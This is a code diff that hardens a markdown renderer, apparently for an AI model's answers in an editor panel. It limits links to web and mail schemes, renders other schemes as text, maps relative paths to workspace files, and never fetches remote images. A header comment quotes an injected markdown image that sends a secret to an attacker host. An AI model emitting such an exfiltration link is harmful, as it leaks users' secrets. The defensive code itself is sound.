@@ -4,6 +4,9 @@
  *
  * - Images load only from `data:` URLs; any other image becomes a plain link the user may
  *   choose to follow, so an injected `![](https://attacker/?secret=…)` fetches nothing.
+ * - Links go to the web or mail only (`https:`, `http:`, `mailto:`): a `command:`, `vscode:` or
+ *   other scheme an answer names is shown as text, never as something to click; a relative
+ *   link that names a workspace path is a file link.
  * - Bare words are not turned into web links (`calc.py` is a file, not `http://calc.py`);
  *   workspace-looking paths (`src/app.py`, `calc.py:12`) become file links the host opens at
  *   the line, after checking the path is inside the workspace.
@@ -15,6 +18,15 @@ import MarkdownIt from "markdown-it";
 
 const md = new MarkdownIt({ html: false, linkify: true, breaks: false });
 md.linkify.set({ fuzzyLink: false, fuzzyEmail: false, fuzzyIP: false });
+
+const WEB = /^(?:https?:|mailto:)/i;
+const DATA_IMAGE = /^data:image\/(?:png|gif|jpe?g|webp);/i;
+const SCHEME = /^[a-z][a-z0-9+.-]*:/i;
+// A link or image with any other scheme is not parsed as one: its source shows as text.
+md.validateLink = (url: string) => {
+  const u = url.trim();
+  return !SCHEME.test(u) || WEB.test(u) || DATA_IMAGE.test(u);
+};
 
 const escape = (s: string) => md.utils.escapeHtml(s);
 
@@ -61,6 +73,16 @@ rules.code_inline = (tokens, idx, _opts, env: { inLink?: number }) => {
 const defaultLinkOpen = rules.link_open ?? ((t, i, o, _e, self) => self.renderToken(t, i, o));
 rules.link_open = (tokens, idx, opts, env: { inLink?: number }, self) => {
   env.inLink = (env.inLink ?? 0) + 1;
+  const token = tokens[idx];
+  const href = (token.attrGet("href") ?? "").trim();
+  if (!WEB.test(href)) {
+    // A relative link (`[the parser](src/parse.py)`) opens the workspace file, or nothing.
+    const path = /^(?:\.\/)?((?:[\w.-]+\/)*[\w.-]+?)(?:#L?(\d+))?$/.exec(href);
+    if (path && !SCHEME.test(href)) {
+      return `<a class="file-link" href="#" data-path="${escape(path[1])}"${path[2] ? ` data-line="${path[2]}"` : ""}>`;
+    }
+    return `<a class="plain-link" title="${escape(href)}">`;
+  }
   return defaultLinkOpen(tokens, idx, opts, env, self);
 };
 const defaultLinkClose = rules.link_close ?? ((t, i, o, _e, self) => self.renderToken(t, i, o));
@@ -76,8 +98,9 @@ rules.image = (tokens, idx) => {
   if (/^data:image\/(png|gif|jpe?g|webp);/i.test(src)) {
     return `<img src="${escape(src)}" alt="${escape(alt)}">`;
   }
-  // Shown, never fetched: the user decides whether to open it.
-  return `<a class="remote-image" href="${escape(src)}" title="${escape(src)}">[image: ${escape(alt)}]</a>`;
+  // Shown, never fetched: the user decides whether to open a web image.
+  const href = WEB.test(src) ? ` href="${escape(src)}"` : "";
+  return `<a class="remote-image"${href} title="${escape(src)}">[image: ${escape(alt)}]</a>`;
 };
 
 rules.fence = (tokens, idx) => {
